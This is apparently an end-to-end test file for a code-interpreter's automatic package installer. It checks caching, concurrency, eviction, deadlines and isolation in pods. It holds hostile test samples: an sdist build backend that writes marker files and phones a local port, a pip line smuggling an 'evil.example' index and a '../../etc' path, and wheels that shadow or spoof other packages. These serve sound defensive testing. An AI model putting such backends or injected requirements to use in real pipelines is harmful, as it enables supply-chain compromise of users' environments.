"""Point 10: missing imports installed on the fly, once per machine. A
dedicated instance (instance.py) installs from a directory of wheels this test
builds itself (wheels.py; no index, no network): a first run installs, a
second does not call pip, module names that differ from their distribution go
through the map, `!pip install` lines work, a failed install is reported and
the code still runs, the code has no network right after an install, and 8
concurrent runs install a package once. The cache is no way in: an sdist is
never built (no package code runs at install), a module that a wheel ships
beside its own is never served to a run that did not import that wheel, two
installs that share a dependency do not write into each other's files, the
cache is evicted least recently used first above APP_PACKAGE_CACHE_MB, and a
request's installs end at its deadline.

With run.py --backend kubernetes the instances run their code in pods of the
API server double: the same installs into the service's cache, and each run's
directories are copied into its pod (PUT /packages/..., package_delivery.h)
whole, with their files' times, read-only, within APP_EXECUTOR_PACKAGES_MB."""
import hashlib
import json
import os
import socket
import threading
import time
import unittest

import client
import run
import wheels
from instance import Instance
from support import E2E
from test_p9_ops import db_rows

BACKEND = os.environ.get("E2E_BACKEND", "local")
PODS = BACKEND == "kubernetes"


def installs(inst, package):
    return db_rows(inst.db, "SELECT status, version, module, requirement, execution_id, log_tail"
                   " FROM package_installs WHERE package = ? ORDER BY id", package)


class P10Packages(E2E):
    inst = None

    @classmethod
    def setUpClass(cls):
        cls.inst = Instance(workers=8, pool=4, backend=BACKEND)
        wh = cls.inst.tmp + "/wheels"
        wheels.build(wh, "ci-plain", "1.0", {"ci_plain.py": "X = 'plain'\n"})
        wheels.build(wh, "ci-fancy-dist", "1.2", {"ci_fancy_mod/__init__.py": "from ci_base import BASE\nVALUE = BASE + 1\n"},
                     requires=["ci-base"])
        wheels.build(wh, "ci-base", "2.0", {"ci_base.py": "BASE = 41\n"})
        wheels.build(wh, "ci-piponly", "3.0", {"ci_piponly_mod.py": "Y = 3\n"})
        wheels.build(wh, "ci-piponly", "2.0", {"ci_piponly_mod.py": "Y = 2\n"})
        wheels.build(wh, "ci-net", "1.0", {"ci_net.py": "N = 1\n"})
        wheels.build(wh, "ci-conc", "1.0", {"ci_conc.py": "C = 'conc'\n"})
        wheels.build(wh, "ci-podinst", "1.0", {"ci_podinst.py": "P = 'pod'\n"})
        # an sdist whose build backend tries the network and the cache
        cls.listener = socket.socket()
        cls.listener.bind(("127.0.0.1", 0))
        cls.listener.listen(8)
        cls.listener.setblocking(False)
        cls.marker = "ci-sdist-was-built-" + os.urandom(4).hex()
        wheels.build_sdist(wh, "ci-sdist", "1.0", SDIST_BACKEND % {
            "port": cls.listener.getsockname()[1], "marker": cls.marker})
        # a wheel that ships another distribution's top-level module beside its own
        wheels.build(wh, "ci-shadowing", "1.0", {"ci_shadowing.py": "OWN = 1\n",
                                                  "ci_shadowed/__init__.py": "WHO = 'attacker'\n",
                                                  "ci_stowaway.py": "WHO = 'attacker'\n"})
        wheels.build(wh, "ci-shadowed", "1.0", {"ci_shadowed/__init__.py": "WHO = 'real'\n"})
        # two distributions that need the same dependency
        cls.shared = {"ci_shared/__init__.py": "", **{"ci_shared/part%d.py" % i: "DATA = %r\n" % os.urandom(3000).hex()
                                                    for i in range(20)}}
        wheels.build(wh, "ci-shared", "1.0", cls.shared)
        wheels.build(wh, "ci-left", "1.0", {"ci_left.py": "SIDE = 'left'\n"}, requires=["ci-shared"])
        wheels.build(wh, "ci-right", "1.0", {"ci_right.py": "SIDE = 'right'\n"}, requires=["ci-shared"])
        # a wheel of "ci-victim" whose metadata says it is "ci-victim-lib" 1.0 (version "lib-1.0")
        wheels.build(wh, "ci-victim", "9.0", {"ci_victim_lib.py": "WHO = 'attacker'\n"},
                     info="ci_victim-lib-1.0.dist-info")
        wheels.build(wh, "ci-victim-lib", "1.0", {"ci_victim_lib.py": "WHO = 'real'\n"})
        # two versions: a bare import gets the latest, whatever another client pinned
        wheels.build(wh, "ci-versions", "1.0", {"ci_versions.py": "V = '1.0 (old)'\n"})
        wheels.build(wh, "ci-versions", "2.0", {"ci_versions.py": "V = '2.0'\n"})
        os.chmod(wh, 0o755)
        for f in os.listdir(wh):
            os.chmod(os.path.join(wh, f), 0o644)
        with open(cls.inst.tmp + "/map.json", "w") as f:
            json.dump({"ci_fancy_mod": "ci-fancy-dist"}, f)
        cls.inst.env["APP_PACKAGE_MAP"] = cls.inst.tmp + "/map.json"
        cls.inst.start()
        cls.ctx = cls.inst.current()
        cls.ctx.__enter__()

    @classmethod
    def tearDownClass(cls):
        cls.listener.close()
        cls.ctx.__exit__(None, None, None)
        ok, lines = cls.inst.stop()
        cls.inst.remove()
        if not ok:
            raise AssertionError("\n".join(lines))

    def test_first_run_installs_second_run_does_not_call_pip(self):
        t0 = time.monotonic()
        out = self.run_code("import ci_plain\nprint(ci_plain.X)\n")
        first = time.monotonic() - t0
        self.assertEqual(out["stdout"], "plain\n")
        self.assertEqual(out["stderr"], "")
        rows = installs(self.inst, "ci-plain")
        self.assertEqual([(r[0], r[1], r[2], r[3]) for r in rows], [("ok", "1.0", "ci_plain", "ci_plain")])
        t0 = time.monotonic()
        out = self.run_code("import ci_plain\nprint(ci_plain.X * 2)\n")
        second = time.monotonic() - t0
        self.assertEqual(out["stdout"], "plainplain\n")
        self.assertEqual(len(installs(self.inst, "ci-plain")), 1, "pip ran again for an installed package")
        print("\n    [p10] first run (install) %.0f ms, second run %.0f ms" % (first * 1000, second * 1000))

    def test_module_name_differs_from_distribution_found_through_the_map_with_dependency(self):
        out = self.run_code("from ci_fancy_mod import VALUE\nimport ci_base\nprint(VALUE, ci_base.BASE)\n")
        self.assertEqual(out["stdout"], "42 41\n")
        rows = installs(self.inst, "ci-fancy-dist")
        self.assertEqual([(r[0], r[1], r[2]) for r in rows], [("ok", "1.2", "ci_fancy_mod")])
        # the dependency came with it: no install of its own, no attempt for "ci_base"
        self.assertEqual(installs(self.inst, "ci-base"), [])

    def test_pip_lines_are_installed_and_removed_from_the_code(self):
        out = self.run_code("!pip install ci-piponly==2.0\nimport ci_piponly_mod\n"
                            "%pip install -q ci-piponly==2.0\nprint(ci_piponly_mod.Y)\n"
                            "import traceback\ntraceback.print_stack(limit=1)\n")
        self.assertEqual(out["stdout"], "2\n")
        self.assertIn('line 6', out["stderr"], "line numbers moved")
        rows = installs(self.inst, "ci-piponly")
        self.assertEqual([(r[0], r[1], r[2], r[3]) for r in rows], [("ok", "2.0", None, "ci-piponly==2.0")])

    def test_a_missing_package_is_reported_in_stderr_and_the_code_still_runs(self):
        out = self.run_code("try:\n    import ci_no_such_thing\nexcept ImportError as e:\n    print('fallback', e.name)\n"
                            "print('after')\n")
        self.assertEqual(out["stdout"], "fallback ci_no_such_thing\nafter\n")
        self.assertTrue(out["stderr"].startswith(
            "Package install failed: ci_no_such_thing (needed by `import ci_no_such_thing`): only wheels are "
            "installed and ci-no-such-thing has none for this platform\n"), out["stderr"])
        rows = installs(self.inst, "ci-no-such-thing")
        self.assertEqual(len(rows), 1)
        self.assertEqual(rows[0][0], "failed")
        self.assertIn("No matching distribution", rows[0][5])

    def test_a_bad_pip_requirement_is_refused_not_handed_to_pip(self):
        out = self.run_code("!pip install --index-url=http://evil.example/ x\n!pip install ../../etc\nprint('ran')\n")
        self.assertEqual(out["stdout"], "ran\n")
        self.assertIn("Package install refused: ../../etc", out["stderr"])
        self.assertEqual(db_rows(self.inst.db, "SELECT count(*) FROM package_installs WHERE requirement LIKE '%etc%'"
                                 " OR requirement LIKE '%evil%'")[0][0], 0)

    @unittest.skipIf(PODS, "a pod's network is the NetworkPolicy's (egress: [], checked by tests/k8s/test_pool.py); "
                     "the double runs executors on the host's")
    def test_the_code_has_no_network_right_after_an_install(self):
        out = self.run_probe(
            "import ci_net, socket, json\n"
            "r = {'names': sorted(l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:])}\n"
            "s = socket.socket()\ns.settimeout(3)\n"
            "try:\n    s.connect(('1.1.1.1', 80))\n    r['connect'] = 'connected'\n"
            "except OSError as e:\n    r['connect'] = e.errno\n"
            "print(json.dumps(r))\n")
        self.assertEqual(installs(self.inst, "ci-net")[0][0], "ok")
        self.assertEqual(out["names"], ["lo"])
        self.assertNotEqual(out["connect"], "connected")

    def test_the_cache_is_read_only_for_the_code(self):
        self.run_code("import ci_plain\n")
        if PODS:
            return self.pod_copy_is_read_only_and_its_own()
        out = self.run_probe(
            "import ci_plain, json\n"
            "try:\n    open(ci_plain.__file__, 'a').write('x')\n    r = 'written'\n"
            "except OSError as e:\n    r = e.errno\n"
            "print(json.dumps(r))\n")
        self.assertIn(out, (13, 30))  # EACCES (root's, no write bits) or EROFS

    def pod_copy_is_read_only_and_its_own(self):
        # a pod gets a copy: files 0444, directories 0555 (the server's uid is
        # the code's in a restricted pod, so the code could chmod its copy
        # back, as the double's root can write it: either way only its own
        # run's copy; the service's cache and the next pod are untouched)
        out = self.run_probe(
            "import ci_plain, os, json\n"
            "d = os.path.dirname(ci_plain.__file__)\n"
            "modes = [oct(os.stat(ci_plain.__file__).st_mode & 0o777), oct(os.stat(d).st_mode & 0o777)]\n"
            "try:\n    open(ci_plain.__file__, 'a').write('X = \"tampered\"\\n')\n    r = 'written'\n"
            "except OSError as e:\n    r = e.errno\n"
            "print(json.dumps([modes, r]))\n")
        self.assertEqual(out[0], ["0o444", "0o555"])
        self.assertIn(out[1], ("written", 13))
        dirs = db_rows(self.inst.db, "SELECT dir FROM package_dists WHERE package = 'ci-plain'")
        with open("%s/packages/dists/%s/ci_plain.py" % (self.inst.tmp, dirs[0][0])) as f:
            self.assertEqual(f.read(), "X = 'plain'\n")
        out = self.run_code("import ci_plain\nprint(ci_plain.X)\n")
        self.assertEqual(out["stdout"], "plain\n")

    @unittest.skipUnless(PODS, "pods only: a local sandbox binds the cache itself")
    def test_a_pod_gets_each_directory_whole_with_its_times(self):
        out = self.run_probe(
            "import ci_fancy_mod, os, json\n"
            "top = os.path.dirname(os.path.dirname(ci_fancy_mod.__file__))\n"
            "files = {}\n"
            "for d, _, fs in os.walk(top):\n"
            "    for f in fs:\n"
            "        st = os.stat(os.path.join(d, f))\n"
            "        files[os.path.relpath(os.path.join(d, f), top)] = [st.st_size, int(st.st_mtime)]\n"
            "print(json.dumps([os.path.basename(top), files]))\n")
        dirs = db_rows(self.inst.db, "SELECT dir FROM package_dists WHERE package = 'ci-fancy-dist'")
        self.assertEqual(out[0], dirs[0][0])
        root = "%s/packages/dists/%s" % (self.inst.tmp, dirs[0][0])
        want = {}
        for d, _, fs in os.walk(root):
            for f in fs:
                st = os.stat(os.path.join(d, f))
                want[os.path.relpath(os.path.join(d, f), root)] = [st.st_size, int(st.st_mtime)]
        self.assertEqual(out[1], want)
        # the dependency came with it, and pip's compiled files are there (and
        # valid: same times as in the cache)
        self.assertIn("ci_base.py", want)
        self.assertTrue(any("__pycache__" in k for k in want), sorted(want))

    @unittest.skipUnless(PODS, "pods only: a local install runs in the install sandbox")
    def test_an_install_runs_in_an_installer_pod_of_its_own(self):
        before = set(run.double_state(os.environ["E2E_K8S_API"])["created_names"])
        out = self.run_code("import ci_podinst\nprint(ci_podinst.P)\n")
        self.assertEqual(out["stdout"], "pod\n", out["stderr"])
        rows = installs(self.inst, "ci-podinst")
        self.assertEqual([r[0] for r in rows], ["ok"])
        self.assertIn("Successfully installed ci_podinst-1.0", rows[0][5])
        st = run.double_state(os.environ["E2E_K8S_API"])
        installers = [n for n in st["created_names"] if n not in before and "install-" in n]
        self.assertEqual(len(installers), 1, st["created_names"])
        name = installers[0]
        labels = st["created_labels"][name]
        instance = self.inst.env["APP_KUBERNETES_INSTANCE"]
        # never one of the pool's (whose selector is the instance label), and
        # the one the installers' NetworkPolicy selects
        self.assertEqual(labels.get("code-interpreter/installer-of"), instance, labels)
        self.assertNotIn("code-interpreter/instance", labels)
        self.assertEqual(labels.get("app.kubernetes.io/name"), "code-interpreter-installer")
        self.assertEqual(len(st["created_env"][name].get("EXECUTOR_TOKEN", "")), 64)
        # deleted before the answer; the pod goes once its container is gone
        deadline = time.monotonic() + 30
        while name not in st["deleted_names"] and time.monotonic() < deadline:
            time.sleep(0.1)
            st = run.double_state(os.environ["E2E_K8S_API"])
        self.assertIn(name, st["deleted_names"])

    def test_eight_concurrent_runs_install_the_same_package_once(self):
        results = [None] * 8

        def one(i):
            results[i] = client.execute("import ci_conc\nprint(ci_conc.C, %d)\n" % i, timeout=60)

        threads = [threading.Thread(target=one, args=(i,)) for i in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(180)
        for i, r in enumerate(results):
            self.assertIsNotNone(r, "run %d did not finish" % i)
            self.assertEqual(r.status, 200, r.body[:500])
            self.assertEqual(r.json["stdout"], "conc %d\n" % i, r.json["stderr"][-2000:])
        rows = installs(self.inst, "ci-conc")
        self.assertEqual([r[0] for r in rows], ["ok"], "installed %d times" % len(rows))

    def test_an_sdist_is_never_built_so_its_code_never_runs(self):
        out = self.run_code("try:\n    import ci_sdist\nexcept ImportError:\n    print('still ran')\n")
        self.assertEqual(out["stdout"], "still ran\n")
        found = [os.path.join(d, f) for d, _, fs in os.walk(self.inst.tmp) for f in fs if self.marker in f]
        self.assertEqual(found, [], "the build backend ran")
        try:
            conn, _ = self.listener.accept()
            conn.close()
            self.fail("the build backend reached the host's network")
        except BlockingIOError:
            pass
        self.assertTrue(out["stderr"].startswith(
            "Package install failed: ci_sdist (needed by `import ci_sdist`): only wheels are installed and "
            "ci-sdist has none for this platform\n"), out["stderr"])
        rows = installs(self.inst, "ci-sdist")
        self.assertEqual([r[0] for r in rows], ["failed"])

    def test_a_module_another_wheel_ships_is_never_served_to_a_run_that_did_not_import_it(self):
        out = self.run_code("import ci_shadowing\nprint(ci_shadowing.OWN)\n")
        self.assertEqual(out["stdout"], "1\n")
        # a later run imports the module the first wheel also shipped: the real one comes
        out = self.run_code("import ci_shadowed\nprint(ci_shadowed.WHO)\n")
        self.assertEqual(out["stdout"], "real\n", out["stderr"])
        self.assertEqual([r[0] for r in installs(self.inst, "ci-shadowed")], ["ok"])
        # a module no distribution of its own provides is not served at all
        out = self.run_code("try:\n    import ci_stowaway\n    print(ci_stowaway.WHO)\n"
                            "except ImportError:\n    print('not served')\n")
        self.assertEqual(out["stdout"], "not served\n")
        # and a run's sys.path has only what it imported; the cache cannot be
        # listed, and the directories' names cannot be guessed
        out = self.run_probe("import ci_shadowed, sys, os, json\n"
                             "try:\n    listed = os.listdir('/opt/code-interpreter/packages')\n"
                             "except PermissionError:\n    listed = 'denied'\n"
                             "print(json.dumps([listed, [p for p in sys.path if p.startswith('/opt/code-interpreter/packages')]]))\n")
        dirs = db_rows(self.inst.db, "SELECT dir FROM package_dists WHERE package = 'ci-shadowed'")
        self.assertEqual(len(dirs), 1)
        self.assertRegex(dirs[0][0], r"^ci-shadowed-1\.0-[0-9a-f]{32}$")
        # a pod holds only what was copied for its own run
        self.assertEqual(out, [[dirs[0][0]] if PODS else "denied", ["/opt/code-interpreter/packages/" + dirs[0][0]]])

    def test_a_wheel_whose_metadata_claims_another_distribution_serves_nobody(self):
        out = self.run_code("!pip install ci-victim\nprint('ran')\n")
        self.assertEqual(out["stdout"], "ran\n")
        self.assertTrue(out["stderr"].startswith("Package install failed: ci-victim: pip installed no distribution "
                                                 "named ci-victim\n"), out["stderr"])
        out = self.run_code("import ci_victim_lib\nprint(ci_victim_lib.WHO)\n")
        self.assertEqual(out["stdout"], "real\n", out["stderr"])
        self.assertEqual(db_rows(self.inst.db, "SELECT package, version FROM package_dists WHERE package LIKE"
                                 " 'ci-victim%'"), [("ci-victim-lib", "1.0")])

    def test_another_clients_pin_does_not_downgrade_a_bare_import(self):
        out = self.run_code("import ci_versions\nprint(ci_versions.V)\n")
        self.assertEqual(out["stdout"], "2.0\n", out["stderr"])
        out = self.run_code("!pip install ci-versions==1.0\nimport ci_versions\nprint(ci_versions.V)\n")
        self.assertEqual(out["stdout"], "1.0 (old)\n", out["stderr"])
        out = self.run_code("import ci_versions\nprint(ci_versions.V)\n")
        self.assertEqual(out["stdout"], "2.0\n", out["stderr"])
        out = self.run_code("!pip install ci-versions==1.0\nimport ci_versions\nprint(ci_versions.V)\n")
        self.assertEqual(out["stdout"], "1.0 (old)\n", out["stderr"])
        self.assertEqual([(r[0], r[1], r[3]) for r in installs(self.inst, "ci-versions")],
                         [("ok", "2.0", "ci_versions"), ("ok", "1.0", "ci-versions==1.0")])

    def test_two_concurrent_installs_sharing_a_dependency_both_import_intact_files(self):
        probe = ("import ci_%s, ci_shared, hashlib, os, json\n"
                 "d = os.path.dirname(ci_shared.__file__)\n"
                 "print(json.dumps([ci_%s.SIDE, {f: hashlib.sha256(open(os.path.join(d, f), 'rb').read()).hexdigest()"
                 " for f in sorted(os.listdir(d)) if f.endswith('.py')}]))\n")
        results = {}

        def one(side):
            results[side] = client.execute(probe % (side, side), timeout=60)

        threads = [threading.Thread(target=one, args=(side,)) for side in ("left", "right")]
        for t in threads:
            t.start()
        for t in threads:
            t.join(180)
        want = {os.path.basename(k): hashlib.sha256(v.encode()).hexdigest() for k, v in self.shared.items()}
        for side in ("left", "right"):
            r = results.get(side)
            self.assertIsNotNone(r, side)
            self.assertEqual(r.status, 200, r.body[:500])
            self.assertEqual(r.json["exit_code"], 0, r.json["stderr"])
            self.assertEqual(json.loads(r.json["stdout"].splitlines()[-1]), [side, want])
            self.assertEqual([x[0] for x in installs(self.inst, "ci-" + side)], ["ok"])
        dists = db_rows(self.inst.db, "SELECT package, version FROM package_dists WHERE package IN"
                        " ('ci-left', 'ci-right') ORDER BY package")
        self.assertEqual(dists, [("ci-left", "1.0"), ("ci-right", "1.0")])


SDIST_BACKEND = """
import os, socket
def _attack():
    for d in ("/opt/code-interpreter/packages", "/opt/code-interpreter/staging", "/tmp"):
        try:
            open(os.path.join(d, "%(marker)s"), "w").write("x")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", %(port)d), timeout=2).close()
    except OSError:
        pass
def get_requires_for_build_wheel(config_settings=None):
    _attack()
    return []
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _attack()
    raise RuntimeError("not a real package")
"""


class P10CacheLimit(E2E):
    def test_a_cache_over_its_limit_evicts_the_least_recently_used(self):
        inst = Instance({"APP_PACKAGE_CACHE_MB": "1"}, workers=1, pool=1, backend=BACKEND)
        for name in ("a", "b", "c"):
            wheels.build(inst.tmp + "/wheels", "ci-big-" + name, "1.0",
                         {"ci_big_%s/__init__.py" % name: "NAME = %r\n" % name,
                          "ci_big_%s/blob.bin" % name: os.urandom(400 * 1024)})
        try:
            inst.start()
            with inst.current():
                for name in ("a", "b", "a", "c"):  # b is the least recently used when c comes
                    out = self.run_code("import ci_big_%s\nprint(ci_big_%s.NAME)\n" % (name, name))
                    self.assertEqual(out["stdout"], name + "\n", out["stderr"])
                self.assertEqual(db_rows(inst.db, "SELECT package, reason FROM package_evictions"),
                                 [("ci-big-b", "cache full")])
                kept = db_rows(inst.db, "SELECT package, dir FROM package_dists ORDER BY package")
                self.assertEqual([k[0] for k in kept], ["ci-big-a", "ci-big-c"])
                self.assertEqual(sorted(os.listdir(inst.tmp + "/packages/dists")), [k[1] for k in kept])
                # an evicted distribution is installed again when asked for
                out = self.run_code("import ci_big_b\nprint(ci_big_b.NAME)\n")
                self.assertEqual(out["stdout"], "b\n", out["stderr"])
                self.assertEqual(len(installs(inst, "ci-big-b")), 2)
        finally:
            ok, lines = inst.stop()
            inst.remove()
        self.assertTrue(ok, "\n".join(lines))


class StallingIndex:
    """A package index that accepts connections and never answers."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.conns = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.conns.append(conn)

    def url(self):
        return "http://127.0.0.1:%d/simple/" % self.sock.getsockname()[1]

    def close(self):
        self.sock.close()
        for c in self.conns:
            c.close()


class P10Deadline(E2E):
    def test_installs_that_pass_the_deadline_end_with_it_and_release_worker_and_sandbox(self):
        index = StallingIndex()
        inst = Instance({"APP_PACKAGE_INSTALL_TIMEOUT": "3", "APP_PIP_INDEX_URL": index.url(),
                         "APP_PIP_FIND_LINKS": ""}, workers=2, pool=2, backend=BACKEND)
        try:
            inst.start()
            with inst.current():
                results = [None, None]

                def one(i):
                    t0 = time.monotonic()
                    r = client.execute("try:\n    import ci_slow\nexcept ImportError:\n    print('ran')\n",
                                       timeout=30)
                    results[i] = (r, time.monotonic() - t0)

                # two requests for the same package: one installs, the other waits on its lock
                # (both at once: each with a sandbox or pod ready for it)
                deadline = time.monotonic() + 30
                while db_rows(inst.db, "SELECT count(*) FROM sandboxes WHERE state = 'ready'") != [(2,)]:
                    self.assertLess(time.monotonic(), deadline, "two sandboxes never became ready")
                    time.sleep(0.05)
                threads = [threading.Thread(target=one, args=(i,)) for i in range(2)]
                for t in threads:
                    t.start()
                for t in threads:
                    t.join(60)
                for r, took in results:
                    self.assertEqual(r.status, 200, r.body[:500])
                    self.assertEqual(r.json["stdout"], "ran\n")
                    self.assertTrue(r.json["stderr"].startswith(
                        "Package install failed: ci_slow (needed by `import ci_slow`): the installs of this "
                        "request took longer than APP_PACKAGE_INSTALL_TIMEOUT (3 s)\n"), r.json["stderr"])
                    self.assertLess(took, 15, "the deadline was not kept")
                self.assertEqual([r[0] for r in installs(inst, "ci-slow")], ["timeout"])
                # worker and sandbox released: both workers serve again, nothing claimed is left
                self.assertHello()
                self.assertHello()
                self.assertEqual(db_rows(inst.db, "SELECT count(*) FROM sandboxes WHERE state = 'claimed'"), [(0,)])
                self.assertEqual(os.listdir(inst.tmp + "/packages/staging"), [])
        finally:
            ok, lines = inst.stop()
            inst.remove()
            index.close()
        self.assertTrue(ok, "\n".join(lines))


@unittest.skipUnless(PODS, "pods only: what one pod takes (APP_EXECUTOR_PACKAGES_MB)")
class P10PodLimit(E2E):
    def test_packages_larger_than_the_pod_takes_are_a_note_and_the_code_still_runs(self):
        # each fits alone, the two together do not: the second delivered is left off
        inst = Instance({"APP_EXECUTOR_PACKAGES_MB": "1"}, workers=1, pool=1, backend=BACKEND)
        for name in ("a", "b"):
            wheels.build(inst.tmp + "/wheels", "ci-half-" + name, "1.0",
                         {"ci_half_%s/__init__.py" % name: "H = 1\n",
                          "ci_half_%s/blob.bin" % name: os.urandom(640 * 1024)})
        wheels.build(inst.tmp + "/wheels", "ci-small", "1.0", {"ci_small.py": "S = 'small'\n"})
        wheels.build(inst.tmp + "/wheels", "ci-huge", "1.0", {"ci_huge/__init__.py": "H = 1\n",
                                                              "ci_huge/blob.bin": os.urandom(1536 * 1024)})
        try:
            inst.start()
            with inst.current():
                out = self.run_code("import ci_small\ntry:\n    import ci_half_a\nexcept ImportError:\n"
                                    "    print('no ci_half_a')\ntry:\n    import ci_half_b\nexcept ImportError:\n"
                                    "    print('no ci_half_b')\nprint(ci_small.S)\n")
                self.assertRegex(out["stdout"], r"^no ci_half_[ab]\nsmall\n$", out["stderr"])
                self.assertRegex(out["stderr"],
                    r"^Package not available: ci-half-[ab] could not be copied to the executor pod: the run's "
                    r"packages are larger than the pod takes \(APP_EXECUTOR_PACKAGES_MB 1 MiB in all")
                # installed all the same: the cache has both, another setting serves them
                self.assertEqual([r[0] for r in installs(inst, "ci-half-a")], ["ok"])
                self.assertEqual([r[0] for r in installs(inst, "ci-half-b")], ["ok"])
                # more than a pod takes is no install at all: the installer pod has no room for it
                out = self.run_code("try:\n    import ci_huge\nexcept ImportError:\n    print('no huge')\n")
                self.assertEqual(out["stdout"], "no huge\n", out["stderr"])
                self.assertIn("Package install failed: ci_huge (needed by `import ci_huge`): ", out["stderr"])
                self.assertIn("larger than APP_EXECUTOR_PACKAGES_MB (1 MiB)", out["stderr"])
                self.assertEqual([r[0] for r in installs(inst, "ci-huge")], ["failed"])
        finally:
            ok, lines = inst.stop()
            inst.remove()
        self.assertTrue(ok, "\n".join(lines))


class P10Off(E2E):
    def test_package_install_off_leaves_imports_and_pip_lines_alone(self):
        inst = Instance({"APP_PACKAGE_INSTALL": "0"}, workers=1, pool=1, backend=BACKEND)
        wheels.build(inst.tmp + "/wheels", "ci-plain", "1.0", {"ci_plain.py": "X = 'plain'\n"})
        try:
            inst.start()
            with inst.current():
                out = self.run_code("import ci_plain\n", expect_exit=1)
                self.assertIn("ModuleNotFoundError: No module named 'ci_plain'", out["stderr"])
                self.assertNotIn("Package install", out["stderr"])
                out = self.run_code("!pip install ci-plain\n", expect_exit=1)
                self.assertIn("SyntaxError", out["stderr"])
            self.assertEqual(db_rows(inst.db, "SELECT count(*) FROM package_installs")[0][0], 0)
            self.assertFalse(os.path.exists(inst.tmp + "/packages/dists"))
        finally:
            ok, lines = inst.stop()
            inst.remove()
        self.assertTrue(ok, "\n".join(lines))


if __name__ == "__main__":
    unittest.main()
